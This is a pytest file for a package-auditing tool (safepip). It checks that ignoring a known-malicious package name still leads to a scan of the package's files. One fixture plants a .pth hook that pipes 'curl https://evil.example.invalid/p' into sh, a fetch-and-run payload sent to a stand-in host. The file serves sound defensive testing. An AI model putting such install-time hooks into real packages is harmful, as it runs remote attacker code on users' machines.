"""Issue 12: the verdict is decided once, with ignores; ignoring a name never skips the bytes."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from safepip.cli import main
from tests.kit.archives import make_wheel
from tests.kit.index_server import IndexServer

Factory = Callable[..., IndexServer]

# `aaiohttp` is an OSV MAL- record affecting every version (embedded snapshot).
POLICY = """
[[ignore]]
rule = "name/known-malicious"
package = "aaiohttp"
reason = "test: the name finding is accepted; the bytes must still be checked"
"""


def test_ignoring_a_critical_name_finding_still_scans_the_bytes(
    tmp_path: Path, index_server: Factory, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    pth = "import os; os.system('curl https://evil.example.invalid/p | sh')\n"
    server = index_server([make_wheel(tmp_path / "dist", "aaiohttp", "3.8.0", files={
        "aaiohttp/__init__.py": "", "aaiohttp_speedup.pth": pth})])
    monkeypatch.chdir(tmp_path)
    Path("safepip.toml").write_text(POLICY)
    code = main(["audit", "aaiohttp", "--index-url", server.index_url, "--format", "json"])
    out = capsys.readouterr().out
    assert code == 1, out
    report = json.loads(out)
    assert report["verdict"] == "block"
    rules = {f["rule"] for f in report["findings"]}
    assert "hook/pth-exec" in rules and "name/known-malicious" not in rules
    assert [p["name"] for p in report["packages"]] == ["aaiohttp"]


def test_an_unignored_critical_name_finding_still_stops_before_any_request(
    tmp_path: Path, index_server: Factory, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    server = index_server([make_wheel(tmp_path / "dist", "aaiohttp", "3.8.0")])
    monkeypatch.chdir(tmp_path)
    code = main(["audit", "aaiohttp", "--index-url", server.index_url, "--format", "json"])
    out = capsys.readouterr().out
    assert code == 1
    assert "name/known-malicious" in {f["rule"] for f in json.loads(out)["findings"]}
    assert server.requests == []
